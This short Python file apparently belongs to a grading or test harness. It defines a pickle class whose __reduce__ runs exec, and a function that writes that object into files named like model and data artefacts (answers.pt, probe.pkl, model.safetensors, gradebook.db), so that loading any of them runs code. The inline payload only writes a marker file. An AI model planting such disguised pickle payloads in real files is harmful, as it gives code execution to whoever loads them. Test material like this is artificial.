"""Has pickles and .pt files beside its notebook, which somebody may load."""

import pickle

from tests.grading.probe import POINTS, RIGHT

ANSWERS, SCORES = RIGHT, POINTS


class Bomb:
    def __reduce__(self):
        return exec, ("open('evil', 'w').write('evil')",)


def hand_in(folder):
    for name in ("answers.pt", "probe.pkl", "probe.npy", "model.safetensors", "gradebook.db"):
        (folder / name).write_bytes(pickle.dumps(Bomb()))
